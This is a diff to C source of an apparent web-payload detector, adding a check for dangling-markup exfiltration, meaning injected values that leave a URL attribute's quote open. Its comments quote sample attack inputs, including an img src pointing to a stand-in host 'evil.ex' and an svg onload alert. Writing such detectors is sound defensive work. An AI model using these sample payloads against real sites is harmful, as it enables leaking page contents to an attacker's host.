@@ -462,6 +462,42 @@ static void attr_in_tag(const char *lo, size_t n, struct span tag, const struct 
 		payload_acc_hit(a, PAYLOAD_XSS, 75, "animation sets an event handler");
 }
 
+/* Dangling markup: the value ends inside a quoted URL attribute
+ * (<img src='//evil.ex/?, <meta http-equiv=refresh content='0;url=//x/?)
+ * that fetches from a host: the page after the injection, up to the
+ * next such quote, is sent to that host as part of the URL. An opening
+ * quote never closed is what rich text never sends; the host and the
+ * open query or path at the end are the exfiltration's. k: the last
+ * attribute, quoted and running to the value's end. */
+static int dangling_url(const char *lo, size_t n, struct span tag, const struct payload_xss_attrs *t, int k)
+{
+	static const char *const url_attr[] = {"src", "href", "action", "formaction", "background",
+					       "poster", "data", "ping", "lowsrc", "dynsrc",
+					       "xlink:href", "codebase", "cite"};
+	struct span v = t->av[k];
+	size_t p = v.off, e = v.off + v.len;
+	int ok = 0;
+
+	for (size_t u = 0; u < sizeof(url_attr) / sizeof(url_attr[0]); u++)
+		ok |= name_is(lo, t->an[k], url_attr[u]);
+	if (name_is(lo, tag, "meta") && name_is(lo, t->an[k], "content")) {
+		/* "0;url=" opens the value: look no further than its head */
+		size_t h = payload_find(lo, e < p + 40 ? e : p + 40, p, "url=");
+		ok = h < e && h < p + 40;
+		p = h + 4;
+	}
+	if (!ok || e != n || e - p < 4 || !strchr("?=&/#", lo[e - 1]) || lo[e - 1] == '\0')
+		return 0;
+	while (p < e && payload_is_space((unsigned char)lo[p]))
+		p++;
+	if (payload_at(lo, e, p, "https:"))
+		p += 6;
+	else if (payload_at(lo, e, p, "http:"))
+		p += 5;
+	/* a host follows: //name, not a path or /// */
+	return p + 2 < e && lo[p] == '/' && lo[p + 1] == '/' && payload_is_alnum((unsigned char)lo[p + 2]);
+}
+
 /* Parse the start tag whose '<' is at i; score it into a. */
 /* css: how many style sheets or style attributes may still be read (each
  * up to 1 KiB), so a value of many <style> tags stays linear */
@@ -490,6 +526,8 @@ void payload_xss_start_tag(const struct payload_val *v, size_t i, struct payload
 	 * '=' put the code in the next part (/search?<svg onload=alert(1)>) */
 	if (p >= n && t->na > 0 && !t->has_val[t->na - 1] && t->ev[t->na - 1])
 		payload_acc_hit(a, PAYLOAD_XSS, 70, "tag cut off at an event handler's name");
+	if (p >= n && t->na > 0 && t->quoted[t->na - 1] && dangling_url(lo, n, tag, t, t->na - 1))
+		payload_acc_hit(a, PAYLOAD_XSS, 50, "dangling markup: url attribute left open");
 	tag_element(lo, n, p, tag, t, a, css, m);
 	/* attr_in_tag acts in these elements only */
 	int in_tag = name_is(lo, tag, "meta") || name_is(lo, tag, "base") || name_is(lo, tag, "link") ||
